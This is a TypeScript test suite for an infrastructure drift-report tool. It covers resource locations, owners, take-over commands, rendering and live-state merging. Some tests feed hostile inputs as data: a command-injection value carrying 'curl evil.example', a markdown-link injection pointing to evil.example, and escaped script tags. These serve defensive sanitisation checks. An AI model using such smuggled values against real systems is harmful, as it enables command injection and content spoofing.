import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";

import { marked } from "marked";
import { parse } from "yaml";

import { driftOf, pendingOf } from "../../../checklist/drift/changes";
import type { Drift } from "../../../checklist/drift/changes";
import { liveResources } from "../../../checklist/drift/live-state";
import { driftFormats, renderDrift } from "../../../checklist/drift/render";
import { driftReportOf } from "../../../checklist/drift/report";
import { placeOf } from "../../../checklist/drift/systems";
import { takeOver, takeOverSettings } from "../../../checklist/drift/take-over";
import { findVariable } from "../../../checklist/environment/contract";
import type { Finding } from "../../../checklist/finding";
import { recorded, urnOf } from "./recorded";

const found = driftOf(recorded.refresh, recorded.counts);
const finding: Finding = {
  rule: "spf-present",
  items: ["4.15"],
  status: "fail",
  severity: "error",
  subject: "SPF",
  message: "SPF is missing.",
  fix: "Declare it.",
};
const report = driftReportOf(
  "sandbox",
  found,
  pendingOf(recorded.preview),
  [finding, { ...finding, status: "pass", message: "Passed." }],
  { all: "ops@bookedbarber.com", dns: "dana@bookedbarber.com" },
);
const clean = driftReportOf(
  "sandbox",
  { drift: [], alike: [{ name: "one", paths: ["valid"] }] },
  [],
  [],
  {},
);

describe("the report of drift", () => {
  it("says of each resource where it is, who mends it and how", () => {
    assert.deepEqual(
      report.drift.map(({ resource, system, owner, takeOver: how }) => [
        resource,
        system,
        owner,
        ...how,
      ]),
      [
        ["edge-min-tls-version", "Cloudflare", "ops@bookedbarber.com", "change components/edge.ts"],
        [
          "database-app-1",
          "PostgreSQL",
          "ops@bookedbarber.com",
          "pulumi config set databaseAppConnections",
        ],
        ["email-dns-spf", "Cloudflare", "dana@bookedbarber.com", "change components/email-dns.ts"],
        ["email-dns-dmarc", "Cloudflare", "dana@bookedbarber.com", "pulumi config set dmarcRamp"],
        [
          "database-public-database",
          "PostgreSQL",
          "ops@bookedbarber.com",
          "change components/database.ts",
        ],
        [
          "railway-backend-variables",
          "Railway",
          "ops@bookedbarber.com",
          "pulumi config set LOG_LEVEL",
          "pulumi config set --secret SECRET_KEY",
        ],
      ],
    );
    assert.deepEqual(report.findings, [finding]);
    assert.equal(report.status, "drift");
  });

  it("is clean by what the program or the systems changed themselves", () => {
    const pending = pendingOf(recorded.preview);
    const own = driftReportOf(
      "sandbox",
      { drift: [], alike: [{ name: "a", paths: ["valid"] }] },
      pending,
      [finding],
      {},
    );
    assert.equal(own.status, "clean");
    assert.match(
      renderDrift(own, "text"),
      /Pending, which is no drift[^]*No drift: nothing of sandbox/,
    );
  });

  it("says where nobody is named, with the command that names somebody", () => {
    const nobody = driftReportOf("sandbox", found, [], [], {});
    assert.match(
      renderDrift(nobody, "text"),
      /nobody is named for dns; name who is, as dns=ops@example.com: pulumi config set onCallContacts/,
    );
  });

  for (const format of driftFormats) {
    it(`has everything in ${format}`, () => {
      const text = renderDrift(report, format);
      for (const word of [
        "email-dns-spf",
        "connectionLimit",
        "dana",
        "dmarcRamp",
        "SPF is missing",
        "backend",
        "railway.com/project/",
      ]) {
        assert.ok(text.includes(word), `${word} is not in:\n${text}`);
      }
      assert.ok(!text.includes("Passed."));
      assert.ok(
        renderDrift(clean, format).includes("clean") || /No drift/.test(renderDrift(clean, format)),
      );
    });
  }

  it("lets nothing of the live system be Markdown or HTML, and mentions nobody", () => {
    const html = marked.parse(renderDrift(report, "markdown"), { async: false });
    assert.ok(html.includes("&lt;script&gt;") || html.includes("&#60;script&#62;"), html);
    assert.doesNotMatch(html, /<script>|<code>x<\/code>|@dana/);
  });

  it("fits into a comment however much has changed", () => {
    const many = Array.from({ length: 2000 }, (_, index): Drift => ({
      ...(found.drift[0] as Drift),
      name: `resource-${index}`,
    }));
    const text = renderDrift(
      driftReportOf("s", { drift: many, alike: [] }, [], [], {}),
      "markdown",
    );
    assert.ok(text.length < 65_536);
    assert.match(text, /too long to be shown here/);
  });
});

describe("where a resource is", () => {
  const places: readonly (readonly [
    type: string,
    properties: Readonly<Record<string, unknown>>,
    page: string | undefined,
  ])[] = [
    ["postgresql:index/role:Role", {}, undefined],
    [
      "cloudflare:index/r2BucketLock:R2BucketLock",
      { accountId: "a1", bucketName: "b" },
      "https://dash.cloudflare.com/a1/r2/default/buckets/b/settings",
    ],
    [
      "cloudflare:index/r2Bucket:R2Bucket",
      { accountId: "a1", name: "b" },
      "https://dash.cloudflare.com/a1/r2/default/buckets/b",
    ],
    ["saas:stripe:WebhookEndpoint", { id: "we_1" }, "https://dashboard.stripe.com/webhooks/we_1"],
    [
      "saas:render:Service",
      { serviceId: "srv-1" },
      "https://dashboard.render.com/web/srv-1/settings",
    ],
    [
      "sentry:index/sentryProject:SentryProject",
      { organization: "acme", slug: "app" },
      "https://sentry.io/settings/acme/projects/app/",
    ],
    ["saas:stripe:WebhookEndpoint", {}, undefined],
    ["saas:stripe:WebhookEndpoint", { id: "a](https://evil.example)" }, undefined],
  ];
  for (const [type, properties, page] of places) {
    it(`of ${type} with ${JSON.stringify(properties)} is ${page ?? "no page"}`, () => {
      assert.equal(placeOf(type, properties).page, page);
    });
  }

  it("is a system with an area for every type that the sandbox's drift had", () => {
    for (const { type, known } of found.drift) assert.ok(placeOf(type, known).area, type);
  });

  it("is, of a type that nobody knows, its package alone", () => {
    assert.deepEqual(placeOf("aws:s3/bucket:Bucket", {}), { system: "aws" });
  });
});

describe("taking a change over", () => {
  it("names settings that there are", () => {
    const text = readFileSync(path.join(__dirname, "..", "..", "..", "Pulumi.yaml"), "utf8");
    const { config } = parse(text) as { config: Readonly<Record<string, unknown>> };
    for (const setting of takeOverSettings) {
      assert.ok(setting in config || findVariable(setting) !== undefined, setting);
    }
  });

  it("puts no text of the live system into a command", () => {
    const urn = urnOf(
      "bookedbarber:index:RailwayHosting$saas:railway:Variables",
      "railway-backend-variables",
    );
    const properties = [{ path: 'variables["X; curl evil.example"]', secret: true }];
    assert.deepEqual(
      takeOver({
        urn,
        name: "railway-backend-variables",
        type: "",
        kind: "changed",
        properties,
        known: {},
      }),
      ["change components/hosting/railway-hosting.ts"],
    );
  });
});

describe("the live state", () => {
  const urn = (name: string): string => found.drift.find((one) => one.name === name)?.urn ?? "";
  const resources = [
    { urn: urn("email-dns-spf"), inputs: { content: "spf" } },
    {
      urn: urn("email-dns-dmarc"),
      inputs: { content: "old", ttl: 1 },
      outputs: { content: "old" },
    },
    { urn: urn("railway-backend-variables"), inputs: { variables: { SECRET_KEY: "encrypted" } } },
    { urn: "another", inputs: { content: "x" } },
  ];
  const outputs = new Map(recorded.refresh.map((step) => [step.urn, step.after?.outputs ?? {}]));

  it("has what was changed, misses what was deleted, and keeps secrets and the rest", () => {
    const [dmarc, variables, another, ...more] = liveResources(resources, found.drift, outputs);
    assert.match(String(dmarc?.inputs["content"]), /p=reject/);
    assert.equal(dmarc?.inputs["ttl"], 1);
    assert.equal(dmarc.outputs?.["content"], dmarc.inputs["content"]);
    assert.deepEqual(variables?.inputs, { variables: { SECRET_KEY: "encrypted" } });
    assert.deepEqual(another, resources[3]);
    assert.deepEqual(more, []);
  });
});
